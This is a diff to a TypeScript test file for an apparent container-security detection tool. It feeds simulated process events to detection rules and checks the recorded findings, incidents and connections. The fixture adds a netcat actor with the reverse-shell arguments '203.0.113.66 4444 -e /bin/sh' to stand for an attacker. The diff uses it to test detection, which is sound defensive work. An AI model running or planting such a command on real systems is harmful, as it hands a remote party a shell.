@@ -2,7 +2,9 @@ import { spawnSync } from 'node:child_process';
 import { cpSync, readdirSync, symlinkSync, writeFileSync } from 'node:fs';
 import { dirname, join, resolve } from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { judgementOf } from '../../src/cli/run-rules.js';
 import { Database } from '../../src/store/binding.js';
+import { openCase } from '../../src/store/open.js';
 import { type Actor, type ContainerInStory, enterpriseLine, execLine, exitLine } from '../tetragon-lines.js';
 import { type Desk, desk, type Ended, PROGRAM } from './workbench.js';
 
@@ -11,8 +13,16 @@ const EVENTS = 51_000;
 
 const POD: ContainerInStory = { id: 'c0ffee'.padEnd(64, '0'), name: 'web', pod: 'web-1', namespace: 'shop', startedAt: 3, workload: 'web' };
 const main: Actor = { pid: 100, at: 4, binary: '/usr/bin/python3', arguments: 'app.py', containerPid: 1, container: POD };
-/** Started long after its container, which has its sockets in hand: what rules are there for. */
-const shell: Actor = { pid: 101, at: 4_000, binary: '/bin/sh', arguments: '-i', parent: main, container: POD };
+/** Started long after its container, and commanded from outside: what rules are there for. */
+const netcat: Actor = {
+  pid: 101,
+  at: 4_000,
+  binary: '/usr/bin/nc',
+  arguments: '203.0.113.66 4444 -e /bin/sh',
+  parent: main,
+  container: POD,
+};
+const shell: Actor = { pid: 102, at: 4_002, binary: '/bin/sh', parent: netcat, container: POD };
 const attacker = { local: '10.0.0.9:40000', remote: '203.0.113.66:4444', cookie: '77' };
 
 function lines(): string {
@@ -24,8 +34,9 @@ function lines(): string {
     execLine(main),
     enterpriseLine('process_connect', main, { ...socket, at: 4.5 }),
     ...busy,
+    execLine(netcat),
+    enterpriseLine('process_connect', netcat, { ...attacker, at: 4_001 }),
     execLine(shell),
-    enterpriseLine('process_connect', shell, { ...attacker, at: 4_001 }),
     exitLine(shell, 4_100),
     '',
   ].join('\n');
@@ -67,6 +78,14 @@ describe('a large file whose rules judge in another thread', () => {
     expect(findings.length).toBeGreaterThan(0);
     expect(kept('finding')).toMatchObject(names(findings).map((id) => ({ rule: { id } })));
     expect(kept('incident').length).toBeGreaterThan(0);
+  });
+
+  it('keeps all that these findings say, connections with their names and lines too', () => {
+    const opened = openCase({ path: at.path('busy.db'), mode: 'read' });
+    const { findings, incidents } = judgementOf(opened.detection);
+    expect(findings.some(({ connections }) => connections.length > 0)).toBe(true);
+    expect([kept('finding'), kept('incident')]).toEqual(JSON.parse(JSON.stringify([findings, incidents])));
+    opened.close();
   });
 
   it('ends as a bug when that thread fails, with its case left to be linked and judged again', () => {
